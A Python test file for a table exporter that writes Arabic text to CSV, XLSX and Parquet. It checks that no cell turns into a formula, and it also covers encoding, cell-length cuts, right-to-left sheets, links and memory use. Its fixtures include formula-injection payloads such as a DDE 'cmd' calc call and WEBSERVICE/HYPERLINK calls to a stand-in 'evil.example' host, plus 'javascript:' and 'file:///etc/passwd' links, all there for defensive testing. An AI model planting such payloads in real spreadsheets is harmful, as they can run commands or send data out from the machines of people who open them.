"""Tables as CSV and XLSX: nothing that an article says becomes a formula, and no letter is lost for programs."""

from __future__ import annotations

import csv
import io
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from typing import BinaryIO

import openpyxl
import pytest

from qawl.export import sheets
from qawl.export.parquet import write_parquet
from qawl.export.sheets import write_csv, write_excel_csv
from qawl.export.table import LONGEST, Cell, Sort, Table, Written, fitting
from qawl.export.xlsx import write_xlsx
from tests.export.office import convert, needs_office

STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠", "−")
HOSTILE = (
    *(f"{start}1+1" for start in STARTS),
    *(f"{blank}=1+1" for blank in (" ", "\u00a0", "\u200f", "\u200e", "\u202e", "\u2067", "\ufeff", "\x00", "\x1f")),
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","قال")',
    '"=1+1"',
    '";=1+1',
    '=1+1";"',
    '=WEBSERVICE("http://evil.example")',
    "\n=1+1",
    "قال\n=1+1",
    "_x0041_",
    "lone \ud800 half",
    "x" * 32_768,
)


def table(*texts: str, lang: str = "ar") -> Table:
    return Table("أقوال", ("النص",), (Sort.TEXT,), ((text,) for text in texts), lang)  # type: ignore[arg-type]


def written(write: Callable[[Table, BinaryIO], Written], given: Table) -> tuple[bytes, Written]:
    out = io.BytesIO()
    told = write(given, out)
    return out.getvalue(), told


def cells(made: bytes) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(made.decode("utf-8-sig"), newline=""))][1:]


def test_a_sheet_for_excel_begins_with_the_mark_without_which_it_is_gibberish() -> None:
    made, _ = written(write_excel_csv, table("قال"))

    assert made.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in made


def test_no_cell_for_excel_begins_as_a_formula_does() -> None:
    made, _ = written(write_excel_csv, table(*HOSTILE))

    for cell in cells(made):
        assert not cell.lstrip(" \u00a0\u200e\u200f\u202e\u2067\ufeff\x00\x1f").startswith(STARTS)


def test_a_sheet_for_programs_has_every_text_as_it_is() -> None:
    kept = [text for text in HOSTILE if "\ud800" not in text]

    made, told = written(write_csv, table(*kept))

    assert not made.startswith(b"\xef\xbb\xbf")
    assert cells(made) == kept
    assert told.rows == len(kept)


def test_a_cell_that_excel_has_no_room_for_is_cut_and_counted() -> None:
    for write in (write_excel_csv, write_xlsx):
        _, told = written(write, table("قصير", "طويل" * 10_000))

        assert told == Written(2, cut=1)


def test_a_cut_cell_has_the_length_that_excel_counts() -> None:
    told, cut = fitting("🕊" * 20_000)

    assert cut
    assert len(told.encode("utf-16-le")) // 2 <= LONGEST
    assert fitting("🕊" * 10) == ("🕊" * 10, False)


def test_every_cell_of_a_workbook_is_text(tmp_path: Path) -> None:
    path = tmp_path / "w.xlsx"
    with path.open("wb") as out:
        write_xlsx(table(*HOSTILE), out)

    sheet = openpyxl.load_workbook(path).active

    assert sheet is not None
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s"}
    assert sheet.max_row == len(HOSTILE) + 1


def test_a_workbook_in_arabic_runs_from_right_to_left_under_a_head_that_stays(tmp_path: Path) -> None:
    for lang in ("ar", "en"):
        path = tmp_path / f"{lang}.xlsx"
        with path.open("wb") as out:
            write_xlsx(table("قال", lang=lang), out)

        sheet = openpyxl.load_workbook(path).active

        assert sheet is not None
        assert bool(sheet.sheet_view.rightToLeft) is (lang == "ar")
        assert sheet.freeze_panes == "A2"


def test_only_an_address_of_the_web_can_be_clicked(tmp_path: Path) -> None:
    urls = ("https://a.example/خبر", "javascript:alert(1)", "internal:Sheet1!A1", "file:///etc/passwd", "http://a b")
    path = tmp_path / "w.xlsx"
    with path.open("wb") as out:
        write_xlsx(Table("t", ("url",), (Sort.LINK,), ((url,) for url in urls), "en"), out)

    sheet = openpyxl.load_workbook(path).active

    assert sheet is not None
    assert [row[0].hyperlink is not None for row in sheet.iter_rows(min_row=2)] == [True, False, False, False, False]


def test_a_day_is_a_day_that_can_be_sorted_and_what_is_none_stays_as_it_stands(tmp_path: Path) -> None:
    path = tmp_path / "w.xlsx"
    days = ("2026-03-05", "أمس", "=1+1", "1890-01-01")
    with path.open("wb") as out:
        write_xlsx(Table("t", ("day",), (Sort.DAY,), ((day,) for day in days), "ar"), out)

    sheet = openpyxl.load_workbook(path).active

    assert sheet is not None
    assert [row[0].data_type for row in sheet.iter_rows(min_row=2)] == ["d", "s", "s", "s"]
    assert sheet["A2"].value == datetime(2026, 3, 5)


def test_what_is_more_than_a_sheet_holds_goes_on_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("qawl.export.xlsx.ROWS", 2)
    path = tmp_path / "w.xlsx"
    with path.open("wb") as out:
        told = write_xlsx(table("أ", "ب", "ج", "د", "هـ"), out)

    book = openpyxl.load_workbook(path)

    assert told.rows == 5
    assert [sheet.max_row for sheet in book] == [3, 3, 2]
    assert book.sheetnames == ["أقوال", "أقوال 2", "أقوال 3"]


def test_the_same_table_gives_the_same_bytes() -> None:
    for write in (write_excel_csv, write_csv, write_xlsx, write_parquet):
        assert written(write, table("قال", "أكد")) == written(write, table("قال", "أكد"))


# In LibreOffice


def formulas(path: Path) -> int:
    return path.read_text("utf-8").count("table:formula=")


@needs_office
def test_no_spreadsheet_runs_a_cell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    texts = [text for text in HOSTILE if "\ud800" not in text]
    safe, book, open_ = tmp_path / "safe.csv", tmp_path / "book.xlsx", tmp_path / "open.csv"
    safe.write_bytes(written(write_excel_csv, table(*texts))[0])
    book.write_bytes(written(write_xlsx, table(*texts))[0])
    monkeypatch.setattr(sheets, "safe_cell", lambda text: text)
    open_.write_bytes(written(write_excel_csv, table(*texts))[0])

    found = {path.stem: formulas(path) for path in convert([safe, book, open_], "fods", tmp_path)}

    assert found["safe"] == 0
    assert found["book"] == 0
    assert found["open"] > 0, "the control must show that LibreOffice would have run them"


# Without end


def rows(count: int) -> Iterator[tuple[Cell, ...]]:
    for number in range(count):
        yield f"قالت الوزارة إن الجولة {number} تبدأ غدا", number, 0.5


def peak(write: Callable[[Table, BinaryIO], Written], count: int, path: Path) -> int:
    sorts = (Sort.LONG, Sort.WHOLE, Sort.NUMBER)
    tracemalloc.start()
    with path.open("wb") as out:
        told = write(Table("t", ("words", "number", "share"), sorts, rows(count), "ar"), out)
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert told.rows == count
    return most


@pytest.mark.parametrize("write", [write_excel_csv, write_csv, write_xlsx, write_parquet])
def test_memory_stays_flat_however_many_rows_come(
    write: Callable[[Table, BinaryIO], Written], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("qawl.export.parquet.BATCH", 500)
    few = peak(write, 1_500, tmp_path / "few")

    many = peak(write, 6_000, tmp_path / "many")

    assert many < few * 1.2 + 500_000


def test_a_writer_that_gathers_its_rows_is_seen(tmp_path: Path) -> None:
    def gathering(given: Table, out: BinaryIO) -> Written:
        return Written(len(list(given.rows)))

    assert peak(gathering, 12_000, tmp_path / "m") > peak(gathering, 3_000, tmp_path / "f") * 1.2 + 500_000
